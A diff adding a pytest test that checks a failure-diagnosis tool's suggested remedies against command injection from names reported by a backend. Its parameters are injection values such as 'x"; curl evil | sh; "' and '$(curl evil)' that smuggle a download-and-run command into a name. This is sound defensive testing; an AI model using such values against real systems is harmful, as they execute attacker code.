@@ -469,6 +469,18 @@ def test_a_port_in_the_text_is_named_instead_of_the_runs() -> None:
     assert cause.cause.startswith("Port 9229 ")
 
 
+@pytest.mark.parametrize(
+    "name", ['x"; curl evil | sh; "', "$(curl evil)", "`curl evil`", "x; curl evil | sh", "-f x", "x\ncurl evil"]
+)
+def test_a_command_in_a_remedy_runs_nothing_that_the_backend_chose(name: str) -> None:
+    for text in (f"sh: 1: {name}: permission denied\n", f'Conflict. The container name "{name}" is already in use\n'):
+        cause = guess(text, ExitStatus(code=126), port=1)
+        remedy = cause.remedy if cause else ""
+        _, quoted, rest = remedy.partition('chmod u+x "')
+        assert not quoted or not set(rest.removesuffix('".')) & set('"$`\\')
+        assert "docker rm" not in remedy
+
+
 def test_every_row_of_the_table_compiles_and_has_its_own_example() -> None:
     assert [row.kind for row in ROWS if not re.compile(row.pattern)] == []
     untested = {row.kind for row in ROWS} - {kind for kind, *_ in (*SAID, *SAID_AT_THE_END)}
